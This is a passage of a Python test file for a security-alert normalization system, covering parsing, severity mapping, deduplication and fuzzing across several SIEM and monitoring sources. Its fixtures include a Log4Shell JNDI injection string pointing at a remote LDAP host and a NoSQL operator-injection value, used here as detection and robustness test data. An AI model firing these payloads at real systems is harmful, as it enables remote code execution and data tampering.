"""Source adapters: fixture payloads -> expected normalized alerts; an unreadable optional field ->
the alert with a fallback and a parse warning; a payload no alert can be made of -> field errors.

Pure Python: no Django settings or database needed.
"""

import copy
import datetime as dt
import json
from pathlib import Path

import pytest

from alerts.adapters import adapter_choices, parse_payload
from alerts.normalization import NormalizationError

pytestmark = []

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "adapters"
KINDS = ("generic", "elastic", "splunk", "wazuh", "suricata", "alertmanager", "grafana", "email")


def load(kind, name):
    return json.loads((FIXTURES / kind / f"{name}.json").read_text())


def utc(*args):
    return dt.datetime(*args, tzinfo=dt.UTC)


# fixture -> one dict per expected alert; "observables" lists keys that must be present.
EXPECTED = {
    ("generic", "basic"): [dict(
        title="Brute force against VPN", severity="high", entity="ip:203.0.113.7",
        source_ref="vpnmon-2026-11-25-0001", occurred_at=utc(2026, 11, 25, 10), confidence=80,
        observables={"user:alice", "domain:vpn.example.com"},
    )],
    ("elastic", "nested_malware"): [dict(
        title="Malware Prevention Alert", severity="high", entity="hostname:ws-042.corp.example.com",
        source_ref="2b0e43c6-6c3c-4a86-9a3f-1f2d6f7a9e01", occurred_at=utc(2026, 11, 24, 8, 14, 58),
        confidence=73, category="Execution",
        observables={
            "ip:198.51.100.42", "user:jdoe", "process:powershell.exe",
            "hash:e3b7c7f1a9d8e2b4c6a5f0d1e2c3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f",
            "hash:5d41402abc4b2a76b9719d911017c592",
            "url:https://downloads.example.test/invoice.exe", "domain:downloads.example.test",
        },
    )],
    ("elastic", "flat_webhook"): [
        dict(title="Potential SSH Brute Force Detected", severity="medium",
             entity="hostname:bastion-01.example.com", source_ref="f1c3a9d2-8e47-4b6a-b0d5-3c2e1f0a9b87",
             occurred_at=utc(2026, 11, 23, 21, 40, 11, 902000), confidence=47, category="Credential Access",
             observables={"ip:203.0.113.55", "ip:198.51.100.10", "user:root"}),
        # No kibana.alert.severity: falls back to the risk score (99 -> critical).
        dict(title="DNS Request to Known Malicious Domain", severity="critical", entity="ip:198.51.100.23",
             source_ref="0a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d", occurred_at=utc(2026, 11, 23, 21, 42, 30, 118000),
             confidence=99, observables={"domain:c2.malicious.test", "ip:203.0.113.53"}),
    ],
    ("splunk", "failed_logins"): [dict(
        title="Excessive Failed Logins", severity="high", entity="ip:203.0.113.77",
        source_ref="scheduler__admin__search__RMD5e461de4cb4a3b6c8_at_1795599600_1523:412:88231",
        occurred_at=utc(2026, 11, 25, 9, 39), observables={"hostname:mail.example.com", "user:alice"},
    )],
    ("splunk", "web_proxy_malware"): [dict(
        title="Web - Download of Known Malware - Rule", severity="critical", entity="ip:198.51.100.61",
        # No result._cd: sid + a digest of the result row.
        source_ref="rt_scheduler__nobody__SplunkEnterpriseSecuritySuite__RMD5a1b2c3d4e5f60718_at_1795525200_77"
                   ":75eeb0e51bcd57e9",
        occurred_at=utc(2026, 11, 24, 13, 0, 5), category="malware",
        observables={"ip:203.0.113.200", "user:bob", "hash:44d88612fea8a8f36de82e1278abb02f",
                     "url:http://cdn.badfiles.test/payload/update.bin", "domain:cdn.badfiles.test"},
    )],
    ("wazuh", "ssh_bruteforce"): [dict(
        title="sshd: brute force trying to get access to the system. Non existent user.", severity="medium",
        entity="ip:203.0.113.99", source_ref="1795597964.4417250", occurred_at=utc(2026, 11, 25, 9, 12, 44, 512000),
        category="Credential Access", observables={"hostname:web-01", "ip:198.51.100.20", "user:oracle"},
    )],
    ("wazuh", "syscheck_modified"): [dict(
        title="Integrity checksum changed.", severity="medium", entity="hostname:db-02.example.com",
        source_ref="1795539790.918273", occurred_at=utc(2026, 11, 24, 17, 3, 10, 221000), category="Impact",
        observables={"hash:ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
                     "hash:92eb5ffee6ae2fec3ad71c777531578f", "ip:198.51.100.31"},
    )],
    ("wazuh", "info_level"): [dict(
        title="Successful sudo to ROOT executed.", severity="low", entity="hostname:wazuh-manager",
        source_ref="1795586401.22", occurred_at=utc(2026, 11, 25, 6, 0, 1, 4000), category="sudo",
        observables={"user:ops", "user:root"},
    )],
    ("suricata", "http_exploit"): [dict(
        title="ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", severity="high",
        entity="ip:203.0.113.45", source_ref="1283746529184736||2034647|203.0.113.45:52814|198.51.100.80:80",
        occurred_at=utc(2026, 11, 25, 8, 30, 12, 345678), category="Attempted Administrator Privilege Gain",
        observables={"ip:198.51.100.80", "domain:shop.example.com",
                     "url:http://shop.example.com/search?q=${jndi:ldap://203.0.113.45:1389/a}"},
    )],
    ("suricata", "dns_policy"): [dict(
        title="ET INFO Observed DNS Query to .test TLD", severity="low", entity="ip:198.51.100.14",
        source_ref="908172635412345||2027863|198.51.100.14:53211|203.0.113.53:53",
        occurred_at=utc(2026, 11, 24, 22, 5, 47, 2113),
        observables={"ip:203.0.113.53", "domain:update.tracker.test"},
    )],
    ("suricata", "tls_sni"): [dict(
        title="ET MALWARE Observed Malicious SSL Cert (Cobalt Strike C2)", severity="medium",
        entity="ip:198.51.100.77",
        source_ref="55512345678901||2046266|198.51.100.77:49822|203.0.113.143:443",
        occurred_at=utc(2026, 11, 23, 14, 11, 9, 771000), observables={"domain:cdn-update.example.test"},
    )],
    ("alertmanager", "group_firing"): [
        dict(title="InstanceDown: Instance web-01.example.com:9100 down", severity="critical",
             entity="hostname:web-01.example.com", source_ref="7f2a1c9e4b6d8a30:2026-11-25T07:55:30.104000+00:00",
             occurred_at=utc(2026, 11, 25, 7, 55, 30, 104000), fingerprint="7f2a1c9e4b6d8a30",
             category="availability", observables=set()),
        dict(title="InstanceDown: Instance 198.51.100.12:9100 down", severity="low", entity="ip:198.51.100.12",
             source_ref="b3e91d0c55a2f7e4:2026-11-25T07:56:00+00:00", occurred_at=utc(2026, 11, 25, 7, 56),
             fingerprint="b3e91d0c55a2f7e4", observables=set()),
        dict(title="InstanceDown: Instance [2001:db8::15]:9100 down", severity="medium", entity="ip:2001:db8::15",
             source_ref="0d4c6e8f1a2b3c4d:2026-11-25T07:57:12.500000+00:00",
             occurred_at=utc(2026, 11, 25, 7, 57, 12, 500000), fingerprint="0d4c6e8f1a2b3c4d", observables=set()),
    ],
    ("alertmanager", "resolved"): [dict(
        title="SSHLoginBurst: Burst of SSH logins on bastion", severity="high",
        entity="hostname:bastion.example.com", source_ref="a9c8e7d6b5a49382:2026-11-24T23:10:00+00:00",
        occurred_at=utc(2026, 11, 24, 23, 10), fingerprint="a9c8e7d6b5a49382", observables={"user:deploy"},
        resolved=True,
    )],
    ("grafana", "unified_group"): [
        dict(title="HighCPU: CPU above 90% on app-01", severity="critical", entity="hostname:app-01.example.test",
             source_ref="1a2b3c4d5e6f7081:2026-11-25T09:00:00+00:00", occurred_at=utc(2026, 11, 25, 9),
             fingerprint="1a2b3c4d5e6f7081", category="capacity", resolved=False, observables={"ip:203.0.113.71"}),
        dict(title="HighCPU: CPU above 90% on 198.51.100.33", severity="low", entity="ip:198.51.100.33",
             source_ref="9f8e7d6c5b4a3921:2026-11-25T08:40:00+00:00", occurred_at=utc(2026, 11, 25, 8, 40),
             fingerprint="9f8e7d6c5b4a3921", category="capacity", resolved=True, observables=set()),
    ],
    ("grafana", "legacy_alerting"): [dict(
        title="Disk usage alert", severity="high", entity="hostname:db-03.example.test",
        source_ref="legacy:1:12:4:7", occurred_at=None, category="capacity", resolved=False,
        observables={"ip:198.51.100.44"},
    )],
    ("email", "phishing_report"): [dict(
        title="Reported e-mail: Action required: confirm your salary details", severity="medium",
        entity="email:payroll@payroll-update.test", source_ref="<CAF7a9x3kQ2@mail.payroll-update.test>",
        occurred_at=utc(2026, 11, 25, 7, 41, 9), category="phishing",
        observables={
            "domain:payroll-update.test", "email:hr-desk@example.test", "email:bounce@payroll-update.test",
            "ip:203.0.113.88", "url:https://payroll-update.test/login?u=alice",
            "hash:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
            "hash:acbd18db4cc2f85cedef654fccc4a4d8",
        },
    )],
    ("email", "parsed_message"): [dict(
        title="Reported e-mail: Your parcel could not be delivered", severity="high",
        entity="email:news@newsletter.example.test", source_ref="<20261124153000.58123@newsletter.example.test>",
        occurred_at=utc(2026, 11, 24, 15, 30, 2), category="email",
        observables={"domain:newsletter.example.test", "url:http://parcel-track.example.test/r/8812",
                     "domain:parcel-track.example.test", "url:https://198.51.100.200/pay", "ip:198.51.100.200"},
    )],
}


def test_every_adapter_is_registered():
    assert {kind for kind, _ in adapter_choices()} == set(KINDS)


def test_every_fixture_has_expectations():
    on_disk = {(p.parent.name, p.stem) for p in FIXTURES.glob("*/*.json")}
    assert on_disk == set(EXPECTED)
    for kind in KINDS:
        assert sum(1 for k, _ in EXPECTED if k == kind) >= (1 if kind == "generic" else 2)


@pytest.mark.parametrize("kind,name", sorted(EXPECTED), ids=lambda v: str(v))
def test_fixture_normalizes(kind, name):
    payload = load(kind, name)
    alerts = parse_payload(kind, copy.deepcopy(payload))
    assert len(alerts) == len(EXPECTED[kind, name])
    for alert, want in zip(alerts, EXPECTED[kind, name], strict=True):
        assert alert.title == want["title"]
        assert alert.severity == want["severity"]
        assert f"{alert.entity_type}:{alert.entity_value}" == want["entity"]
        assert alert.source_ref == want["source_ref"]
        assert alert.occurred_at == want["occurred_at"]
        keys = {obs.key() for obs in alert.observables}
        assert want["entity"] in keys
        assert want["observables"] <= keys, want["observables"] - keys
        for attr in ("confidence", "category", "fingerprint", "resolved"):
            if attr in want:
                assert getattr(alert, attr) == want[attr]
        assert len(alert.fingerprint) >= 16
        assert alert.warnings == []  # the fixtures are well-formed: nothing fell back
        assert isinstance(alert.raw, dict)
        json.dumps(alert.raw)  # stays storable as JSON


def test_single_alert_keeps_whole_payload_as_raw():
    payload = load("suricata", "http_exploit")
    assert parse_payload("suricata", payload)[0].raw == payload


def test_alertmanager_group_gives_one_alert_per_element_with_own_raw():
    payload = load("alertmanager", "group_firing")
    alerts = parse_payload("alertmanager", payload)
    assert len(alerts) == 3
    assert [a.raw["fingerprint"] for a in alerts] == [a["fingerprint"] for a in payload["alerts"]]
    assert all(a.raw["labels"]["category"] == "availability" for a in alerts)  # common labels merged in
    assert len({a.source_ref for a in alerts}) == 3


def test_alertmanager_resend_dedupes_and_resolved_shares_the_firing_identity():
    firing = load("alertmanager", "resolved")
    firing["status"] = firing["alerts"][0]["status"] = "firing"
    first, again = parse_payload("alertmanager", firing)[0], parse_payload("alertmanager", copy.deepcopy(firing))[0]
    resolved = parse_payload("alertmanager", load("alertmanager", "resolved"))[0]
    assert first.source_ref == again.source_ref
    assert first.severity == "high"  # severity "page"
    assert (first.resolved, again.resolved, resolved.resolved) == (False, False, True)
    # The resolved notification names the stored firing alert (same identity) and keeps its facts.
    assert resolved.source_ref == first.source_ref
    assert resolved.fingerprint == first.fingerprint
    assert (resolved.title, resolved.severity) == (first.title, first.severity)
    assert (resolved.entity_type, resolved.entity_value) == (first.entity_type, first.entity_value)


def test_alertmanager_element_status_overrides_group_status():
    payload = load("alertmanager", "group_firing")
    payload["alerts"][1]["status"] = "resolved"
    assert [a.resolved for a in parse_payload("alertmanager", payload)] == [False, True, False]


def test_alertmanager_new_firing_after_resolution_is_a_new_identity():
    # A condition that fires again after it was resolved starts at a new startsAt.
    first = parse_payload("alertmanager", load("alertmanager", "resolved"))[0]
    again = load("alertmanager", "resolved")
    again["status"] = again["alerts"][0]["status"] = "firing"
    again["alerts"][0]["startsAt"] = "2026-11-25T01:00:00Z"
    assert parse_payload("alertmanager", again)[0].source_ref != first.source_ref


def test_grafana_legacy_ok_resolves_the_alerting_identity():
    alerting = parse_payload("grafana", load("grafana", "legacy_alerting"))[0]
    ok = load("grafana", "legacy_alerting")
    ok.update({"state": "ok", "title": "[OK] Disk usage alert", "evalMatches": []})
    resolved = parse_payload("grafana", ok)[0]
    assert (alerting.resolved, resolved.resolved) == (False, True)
    assert resolved.source_ref == alerting.source_ref == "legacy:1:12:4:7"
    assert resolved.title == alerting.title


def test_grafana_unified_firing_and_resolved_share_identity():
    payload = load("grafana", "unified_group")
    firing = parse_payload("grafana", payload)[1]
    payload["alerts"][1]["status"] = "firing"
    again = parse_payload("grafana", payload)[1]
    assert (firing.resolved, again.resolved) == (True, False)
    assert firing.source_ref == again.source_ref


def test_grafana_unified_extra_fields_in_description():
    alert = parse_payload("grafana", load("grafana", "unified_group"))[0]
    assert "value=97.5" in alert.description and "https://grafana.example.test/d/infra01" in alert.description


def test_grafana_unknown_shape_is_refused():
    with pytest.raises(NormalizationError) as info:
        parse_payload("grafana", {"title": "[Alerting] x", "state": "alerting"})
    assert "alerts" in info.value.errors


def test_elastic_accepts_list_and_search_hit():
    doc = load("elastic", "nested_malware")
    assert len(parse_payload("elastic", [doc, doc])) == 2
    hit = {"_index": ".internal.alerts-security.alerts-default-000001", "_id": "abc123", "_source": doc}
    assert parse_payload("elastic", hit)[0].title == "Malware Prevention Alert"


def test_elastic_mixed_nested_and_dotted_keys():
    doc = {"kibana": {"alert.rule.name": "Mixed", "alert": {"severity": "low"}}, "source.ip": "203.0.113.9",
           "@timestamp": "2026-11-25T01:00:00Z"}
    alert = parse_payload("elastic", doc)[0]
    assert (alert.title, alert.severity, alert.entity_value) == ("Mixed", "low", "203.0.113.9")


def test_splunk_without_result_defaults_to_medium():
    alert = parse_payload("splunk", {"sid": "s1", "search_name": "Test"})[0]
    assert (alert.severity, alert.source_ref, alert.entity_value) == ("medium", "s1", "")


def test_email_extracts_urls_from_body_when_not_given():
    payload = load("email", "phishing_report")
    assert "urls" not in payload
    keys = {o.key() for o in parse_payload("email", payload)[0].observables}
    assert "url:https://payroll-update.test/login?u=alice" in keys


# Wazuh's own bands: 0-2 info, 3-6 low, 7-11 medium, 12-14 high, 15 critical.
@pytest.mark.parametrize("level,severity", [(0, "info"), (2, "info"), (3, "low"), (6, "low"), (7, "medium"),
                                            (11, "medium"), (12, "high"), (14, "high"), (15, "critical"),
                                            ("12", "high"), ("2", "info")])
def test_wazuh_level_mapping(level, severity):
    payload = load("wazuh", "ssh_bruteforce")
    payload["rule"]["level"] = level
    alert = parse_payload("wazuh", payload)[0]
    assert alert.severity == severity
    assert alert.warnings == []


# Without ET metadata: 1 high, 2 medium, 3 low, 4 and above info; absent -> medium.
@pytest.mark.parametrize("value,severity", [(1, "high"), (2, "medium"), (3, "low"), (4, "info"), (255, "info"),
                                            (None, "medium")])
def test_suricata_severity_mapping(value, severity):
    payload = load("suricata", "http_exploit")
    payload["alert"].pop("metadata")
    payload["alert"]["severity"] = value
    alert = parse_payload("suricata", payload)[0]
    assert alert.severity == severity
    assert alert.warnings == []


@pytest.mark.parametrize("signature_severity,priority,severity", [
    (["Major"], 3, "high"), (["Critical"], 2, "critical"), ("Critical", 1, "critical"),
    (["Major"], 1, "high"), (["Minor"], 3, "low"), (["Informational"], 2, "medium"),
])
def test_suricata_et_signature_severity_raises_but_never_lowers(signature_severity, priority, severity):
    payload = load("suricata", "http_exploit")
    payload["alert"]["severity"] = priority
    payload["alert"]["metadata"] = {"signature_severity": signature_severity}
    assert parse_payload("suricata", payload)[0].severity == severity


@pytest.mark.parametrize("confidence,expected", [(["High"], 90), (["Medium"], 70), (["Low"], 50), (None, 50)])
def test_suricata_et_confidence(confidence, expected):
    payload = load("suricata", "http_exploit")
    if confidence is not None:
        payload["alert"]["metadata"]["confidence"] = confidence
    assert parse_payload("suricata", payload)[0].confidence == expected


def test_suricata_identity_is_flow_tx_signature_and_endpoints():
    base = load("suricata", "http_exploit")
    first, resent = (parse_payload("suricata", {**copy.deepcopy(base), "tx_id": 0})[0] for _ in range(2))
    other_tx = parse_payload("suricata", {**copy.deepcopy(base), "tx_id": 1})[0]
    other_host = parse_payload("suricata", {**copy.deepcopy(base), "tx_id": 0, "src_ip": "203.0.113.46"})[0]
    assert first.source_ref == "1283746529184736|0|2034647|203.0.113.45:52814|198.51.100.80:80"
    assert resent.source_ref == first.source_ref  # a re-sent event counts on the stored alert
    # Another transaction of the same flow, and another host's hit on the same signature, are other alerts.
    assert other_tx.source_ref == "1283746529184736|1|2034647|203.0.113.45:52814|198.51.100.80:80"
    assert other_host.source_ref == "1283746529184736|0|2034647|203.0.113.46:52814|198.51.100.80:80"
    assert len({first.source_ref, other_tx.source_ref, other_host.source_ref}) == 3


def test_splunk_null_search_name_is_an_alert_with_a_warning():
    # Splunk's own documented webhook example carries "search_name": null.
    payload = load("splunk", "failed_logins")
    payload["search_name"] = None
    alert = parse_payload("splunk", payload)[0]
    assert alert.title == f"Splunk alert {payload['sid']}"
    assert any("search_name" in w for w in alert.warnings), alert.warnings
    assert alert.entity_value == "203.0.113.77" and alert.severity == "high"


def test_splunk_source_ref_is_sid_and_cd_else_a_result_digest():
    payload = load("splunk", "failed_logins")
    with_cd = parse_payload("splunk", copy.deepcopy(payload))[0]
    assert with_cd.source_ref == f"{payload['sid']}:{payload['result']['_cd']}"
    del payload["result"]["_cd"]
    digest = parse_payload("splunk", copy.deepcopy(payload))[0].source_ref
    assert digest.startswith(payload["sid"] + ":") and len(digest) == len(payload["sid"]) + 17
    assert parse_payload("splunk", copy.deepcopy(payload))[0].source_ref == digest  # stable for a re-send
    payload["result"]["user"] = "mallory"
    assert parse_payload("splunk", payload)[0].source_ref != digest  # another result row, another alert


@pytest.mark.parametrize("value,expected", [
    ("2017 Feb 07 15:57:53", utc(2017, 2, 7, 15, 57, 53)),
    ("Feb 07 2017 15:57:53", utc(2017, 2, 7, 15, 57, 53)),
])
def test_wazuh_legacy_ossec_timestamp(value, expected):
    payload = load("wazuh", "ssh_bruteforce")
    payload["timestamp"] = value
    alert = parse_payload("wazuh", payload)[0]
    assert alert.occurred_at == expected
    assert alert.warnings == []


def test_generic_observable_is_refanged():
    payload = load("generic", "basic")
    payload["observables"] = [{"type": "url", "value": "hxxp://evil[.]com/x"},
                              {"type": "domain", "value": "bad[.]example[.]test"}]
    keys = {o.key() for o in parse_payload("generic", payload)[0].observables}
    assert {"url:http://evil.com/x", "domain:bad.example.test"} <= keys
    assert not any("hxxp" in k or "[.]" in k for k in keys)


def test_email_body_urls_have_html_entities_decoded():
    payload = load("email", "phishing_report")
    payload["body"] = 'Log in at <a href="https://payroll-update.test/login?u=alice&amp;t=42">here</a>.'
    keys = {o.key() for o in parse_payload("email", payload)[0].observables}
    assert "url:https://payroll-update.test/login?u=alice&t=42" in keys
    assert not any("&amp;" in k for k in keys)


def _broken(kind, name, mutate):
    payload = load(kind, name)
    mutate(payload)
    return payload


# Payloads no alert can be made of: refused with the offending field named.
MALFORMED = [
    ("elastic", lambda: {"alerts": []}, "alerts"),
    ("elastic", lambda: {"alerts": [1, "x"]}, "alerts[0].non_field_errors"),
    ("splunk", lambda: {"search_name": "x", "result": ["a"]}, "result"),
    ("wazuh", lambda: _broken("wazuh", "ssh_bruteforce", lambda p: p.pop("rule")), "rule"),
    ("wazuh", lambda: _broken("wazuh", "ssh_bruteforce", lambda p: p.update({"rule": "5712"})), "rule"),
    ("wazuh", lambda: [{"rule": None}, {"rule": 7}], "alerts[1].rule"),
    ("suricata", lambda: _broken("suricata", "http_exploit", lambda p: p.update({"event_type": "flow"})),
     "event_type"),
    ("suricata", lambda: _broken("suricata", "http_exploit", lambda p: p.pop("alert")), "alert"),
    ("suricata", lambda: [_broken("suricata", "http_exploit", lambda p: p.update({"event_type": "dns"}))],
     "alerts[0].event_type"),
    ("alertmanager", lambda: {"version": "4", "alerts": []}, "alerts"),
    ("alertmanager", lambda: _broken("alertmanager", "group_firing", lambda p: p.pop("alerts")), "alerts"),
    # A group with no readable element.
    ("alertmanager", lambda: _broken("alertmanager", "group_firing",
                                     lambda p: [a.update({"labels": 7}) for a in p["alerts"]]), "alerts[2].labels"),
    ("grafana", lambda: {"version": "1", "alerts": []}, "alerts"),
    ("grafana", lambda: _broken("grafana", "unified_group", lambda p: p.update({"alerts": ["x", None]})),
     "alerts[1].non_field_errors"),
    ("email", lambda: _broken("email", "phishing_report", lambda p: p.update({"from": "not an address"})), "from"),
    ("email", lambda: _broken("email", "phishing_report", lambda p: p.update({"attachments": "x.exe"})),
     "attachments"),
]


@pytest.mark.parametrize("kind,make,field", MALFORMED, ids=[f"{k}-{f}" for k, _, f in MALFORMED])
def test_malformed_payload_reports_field(kind, make, field):
    with pytest.raises(NormalizationError) as info:
        parse_payload(kind, make())
    assert field in info.value.errors, info.value.errors


# An unreadable OPTIONAL field: the alert is still made (a sender never re-sends a refused one), with
# the documented fallback and a parse warning naming the field.
# (kind, payload, warned field, index of the alert carrying the warning, expected count, expected attrs)
FALLBACKS = [
    ("elastic", lambda: _broken("elastic", "nested_malware", lambda p: p["kibana"]["alert"]["rule"].pop("name")),
     "kibana.alert.rule.name", 0, 1,
     dict(title=load("elastic", "nested_malware")["kibana"]["alert"]["reason"], severity="high",
          source_ref="2b0e43c6-6c3c-4a86-9a3f-1f2d6f7a9e01")),
    ("elastic", lambda: _broken("elastic", "flat_webhook", lambda p: p["alerts"][0].update({"@timestamp": "today"})),
     "@timestamp", 0, 2, dict(title="Potential SSH Brute Force Detected", occurred_at=None)),
    ("elastic", lambda: _broken("elastic", "nested_malware",
                                lambda p: p["kibana"]["alert"].update({"original_time": "2126-01-01T00:00:00Z"})),
     "kibana.alert.original_time", 0, 1, dict(title="Malware Prevention Alert", occurred_at=None)),
    ("elastic", lambda: _broken("elastic", "flat_webhook", lambda p: p["alerts"][1].pop("kibana.alert.rule.name")),
     "kibana.alert.rule.name", 1, 2,
     dict(title=load("elastic", "flat_webhook")["alerts"][1]["kibana.alert.reason"], severity="critical",
          source_ref="0a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d")),
    ("elastic", lambda: _broken("elastic", "nested_malware", lambda p: p["kibana"]["alert"].update(
        {"severity": "apocalyptic"})), "kibana.alert.severity", 0, 1, dict(severity="high")),  # from risk 73
    ("splunk", lambda: {"sid": "x", "result": {}}, "search_name", 0, 1,
     dict(title="Splunk alert x", severity="medium", source_ref="x")),
    ("splunk", lambda: {"search_name": "x", "result": {"_time": "3026-01-01T00:00:00Z"}}, "result._time", 0, 1,
     dict(title="x", occurred_at=None)),
    ("splunk", lambda: _broken("splunk", "failed_logins", lambda p: p["result"].update({"severity": "apocalyptic"})),
     "result.severity", 0, 1, dict(title="Excessive Failed Logins", severity="medium")),
    ("wazuh", lambda: _broken("wazuh", "ssh_bruteforce", lambda p: p["rule"].update({"level": 17})), "rule.level",
     0, 1, dict(severity="medium", source_ref="1795597964.4417250")),
    ("wazuh", lambda: _broken("wazuh", "ssh_bruteforce", lambda p: p["rule"].update({"level": "high"})),
     "rule.level", 0, 1, dict(severity="medium")),
    ("wazuh", lambda: _broken("wazuh", "ssh_bruteforce", lambda p: p["rule"].pop("level")), "rule.level", 0, 1,
     dict(severity="medium")),
    ("wazuh", lambda: _broken("wazuh", "ssh_bruteforce", lambda p: p["rule"].pop("description")),
     "rule.description", 0, 1, dict(title="Wazuh rule 5712", severity="medium")),
    ("wazuh", lambda: _broken("wazuh", "ssh_bruteforce", lambda p: p.update({"timestamp": "yesterday"})),
     "timestamp", 0, 1, dict(occurred_at=None, source_ref="1795597964.4417250")),
    ("suricata", lambda: _broken("suricata", "http_exploit",
                                 lambda p: p["alert"].update({"severity": "1"}) or p["alert"].pop("metadata")),
     "alert.severity", 0, 1, dict(severity="medium")),
    ("suricata", lambda: _broken("suricata", "http_exploit", lambda p: p["alert"].pop("signature")),
     "alert.signature", 0, 1, dict(title="Suricata signature 2034647", severity="high")),
    ("suricata", lambda: _broken("suricata", "http_exploit", lambda p: p.update({"timestamp": 1e300})), "timestamp",
     0, 1, dict(occurred_at=None, source_ref="1283746529184736||2034647|203.0.113.45:52814|198.51.100.80:80")),
    ("alertmanager", lambda: _broken("alertmanager", "group_firing", lambda p: p.update({"version": "5"})),
     "version", 2, 3, dict(title="InstanceDown: Instance [2001:db8::15]:9100 down", severity="medium")),
    ("alertmanager", lambda: _broken("alertmanager", "group_firing",
                                     lambda p: p["alerts"][1]["labels"].pop("alertname") and p.pop("commonLabels")),
     "labels.alertname", 1, 3,
     dict(title='{}/{severity=~"critical|warning"}:{alertname="InstanceDown"}: Instance 198.51.100.12:9100 down',
          source_ref="b3e91d0c55a2f7e4:2026-11-25T07:56:00+00:00")),
    # One unreadable element of a group: skipped; the others are kept and name it in a warning.
    ("alertmanager", lambda: _broken("alertmanager", "group_firing", lambda p: p["alerts"][0].update({"labels": 7})),
     "alerts[0].labels", 0, 2, dict(title="InstanceDown: Instance 198.51.100.12:9100 down", severity="low",
                                    source_ref="b3e91d0c55a2f7e4:2026-11-25T07:56:00+00:00")),
    ("alertmanager", lambda: _broken("alertmanager", "group_firing",
                                     lambda p: p["alerts"][2].update({"startsAt": "soon"})),
     "startsAt", 2, 3, dict(occurred_at=None, source_ref="0d4c6e8f1a2b3c4d:soon")),
    ("alertmanager", lambda: _broken("alertmanager", "group_firing",
                                     lambda p: p["alerts"][0]["labels"].update({"severity": "apocalyptic"})),
     "labels.severity", 0, 3, dict(severity="medium")),
    ("grafana", lambda: _broken("grafana", "unified_group", lambda p: p.update({"version": "2"})), "version", 0, 2,
     dict(title="HighCPU: CPU above 90% on app-01")),
    ("grafana", lambda: _broken("grafana", "unified_group", lambda p: p["alerts"].insert(0, "garbage")),
     "alerts[0]", 1, 2, dict(title="HighCPU: CPU above 90% on 198.51.100.33", resolved=True)),
    ("grafana", lambda: _broken("grafana", "legacy_alerting", lambda p: p.pop("ruleName")), "ruleName", 0, 1,
     dict(title="[Alerting] Disk usage alert", source_ref="legacy:1:12:4:7")),
    ("grafana", lambda: _broken("grafana", "legacy_alerting", lambda p: p["tags"].update({"severity": "doom"})),
     "tags.severity", 0, 1, dict(severity="medium")),
    # The JSON e-mail report's severity and received_at are optional too.
    ("email", lambda: _broken("email", "phishing_report", lambda p: p.update({"severity": "apocalyptic"})),
     "severity", 0, 1, dict(severity="medium", entity_value="payroll@payroll-update.test")),
    ("email", lambda: _broken("email", "phishing_report", lambda p: p.update({"received_at": "1989-12-31T00:00:00Z"})),
     "received_at", 0, 1, dict(occurred_at=None, entity_value="payroll@payroll-update.test")),
]


@pytest.mark.parametrize("kind,make,field,index,count,want", FALLBACKS,
                         ids=[f"{k}-{f}" for k, _, f, *_ in FALLBACKS])
def test_unreadable_optional_field_falls_back_with_a_warning(kind, make, field, index, count, want):
    alerts = parse_payload(kind, make())
    assert len(alerts) == count
    alert = alerts[index]
    assert any(field in w for w in alert.warnings), alert.warnings
    for attr, value in want.items():
        assert getattr(alert, attr) == value, (attr, getattr(alert, attr))
    assert alert.title and alert.fingerprint


def test_only_the_element_with_the_bad_field_carries_its_warning():
    payload = _broken("elastic", "flat_webhook", lambda p: p["alerts"][0].update({"@timestamp": "today"}))
    first, second = parse_payload("elastic", payload)
    assert any("@timestamp" in w for w in first.warnings)
    assert second.warnings == [] and second.occurred_at == utc(2026, 11, 23, 21, 42, 30, 118000)


def test_alertmanager_older_payload_versions_read_without_warning():
    for version in ("3", "2"):
        payload = _broken("alertmanager", "group_firing", lambda p, v=version: p.update({"version": v}))
        assert all(a.warnings == [] for a in parse_payload("alertmanager", payload))


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("payload", [None, 0, 1.5, "text", [], [1, 2], True])
def test_wrong_shapes_raise_normalization_error(kind, payload):
    with pytest.raises(NormalizationError) as info:
        parse_payload(kind, payload)
    assert info.value.errors


# Empty objects: refused by the adapters with a required part (generic title, Wazuh rule, Suricata
# event_type, Alertmanager/Grafana alerts, e-mail from). Elastic and Splunk documents have no required
# field (their rule name is optional): an alert is made, titled by the fallback, with a warning.
EMPTY_REFUSED = [kind for kind in KINDS if kind not in ("elastic", "splunk")]
EMPTY_TITLES = {"elastic": ("Elastic detection alert", "kibana.alert.rule.name"),
                "splunk": ("Splunk alert", "search_name")}


@pytest.mark.parametrize("kind", EMPTY_REFUSED)
@pytest.mark.parametrize("payload", [{}, {"alerts": None}])
def test_empty_objects_are_refused(kind, payload):
    with pytest.raises(NormalizationError) as info:
        parse_payload(kind, payload)
    assert info.value.errors


@pytest.mark.parametrize("kind", sorted(EMPTY_TITLES))
@pytest.mark.parametrize("payload", [{}, {"alerts": None}])
def test_empty_elastic_and_splunk_documents_are_refused(kind, payload):
    """Nothing in the body: no alert can be made (a document with anything in it falls back)."""
    with pytest.raises(NormalizationError):
        parse_payload(kind, payload)


# Ints beyond float range / CPython's 4300-digit str() limit are legal JSON (json.loads makes them).
HUGE_INTS = [10**400, -(10**5000)]
HOSTILE = ["\x00", "a\x00b", "a" * 1_000_000, -(10**40), 1e308, -0.0, {"$gt": ""}, ["x"] * 1000, *HUGE_INTS]


def replace_leaves(node, value):
    if isinstance(node, dict):
        return {k: replace_leaves(v, value) for k, v in node.items()}
    if isinstance(node, list):
        return [replace_leaves(v, value) for v in node]
    return value


def assert_alerts_or_normalization_error(kind, payload):
    try:
        alerts = parse_payload(kind, payload)
    except NormalizationError as exc:
        assert exc.errors
        return
    for alert in alerts:
        assert len(alert.title) <= 500 and len(alert.description) <= 20_000
        assert len(alert.source_ref) <= 255 and len(alert.fingerprint) <= 64
        assert "\x00" not in alert.title + alert.description + alert.entity_value


@pytest.mark.parametrize("kind,name", sorted(EXPECTED), ids=lambda v: str(v))
def test_nul_bytes_and_huge_values_never_crash(kind, name):
    for value in HOSTILE:
        assert_alerts_or_normalization_error(kind, replace_leaves(load(kind, name), value))
        for key in load(kind, name) if isinstance(load(kind, name), dict) else []:
            # One field at a time, so the hostile value reaches code past the required-field checks.
